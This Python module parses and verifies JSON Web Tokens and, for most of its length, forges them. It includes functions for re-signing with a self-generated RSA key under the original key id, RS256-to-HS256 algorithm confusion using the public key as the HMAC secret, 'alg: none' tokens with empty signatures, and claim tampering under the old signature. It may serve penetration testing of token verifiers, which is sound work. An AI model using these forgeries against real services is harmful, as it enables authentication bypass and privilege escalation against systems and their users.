"""Reads, verifies and forges JSON Web Tokens without a JOSE library, so that nothing hides what is on the wire."""

import base64
import hashlib
import hmac
import json

from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding, rsa


def unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def header(token: str) -> dict:
    return json.loads(unb64(token.split(".")[0]))


def claims(token: str) -> dict:
    return json.loads(unb64(token.split(".")[1]))


def public_key(jwk: dict):
    number = lambda name: int.from_bytes(unb64(jwk[name]), "big")
    return rsa.RSAPublicNumbers(number("e"), number("n")).public_key()


def verify(token: str, jwks: dict) -> dict:
    """Claims of an RS256 token whose signature fits the key set; raises otherwise."""
    head, body, signature = token.split(".")
    assert header(token)["alg"] == "RS256"
    jwk = {k["kid"]: k for k in jwks["keys"]}[header(token)["kid"]]
    public_key(jwk).verify(unb64(signature), f"{head}.{body}".encode(), padding.PKCS1v15(), hashes.SHA256())
    return claims(token)


def forge_rsa(token: str, **changes) -> str:
    """The token with changed claims under the same key id, signed by a key of the attacker's own."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    signed = token.split(".")[0] + "." + b64(json.dumps(claims(token) | changes).encode())
    return signed + "." + b64(key.sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256()))


def forge_hmac(token: str, secret: bytes, **changes) -> str:
    """The token re-signed with HS256, the public key's bytes as the shared secret."""
    head = b64(json.dumps(header(token) | {"alg": "HS256"}).encode())
    signed = head + "." + b64(json.dumps(claims(token) | changes).encode())
    return signed + "." + b64(hmac.new(secret, signed.encode(), hashlib.sha256).digest())


def forge_none(token: str, alg: str = "none", **changes) -> str:
    head = b64(json.dumps(header(token) | {"alg": alg}).encode())
    return head + "." + b64(json.dumps(claims(token) | changes).encode()) + "."


def tamper(token: str, **changes) -> str:
    """The token with changed claims under its old signature."""
    head, _, signature = token.split(".")
    return head + "." + b64(json.dumps(claims(token) | changes).encode()) + "." + signature
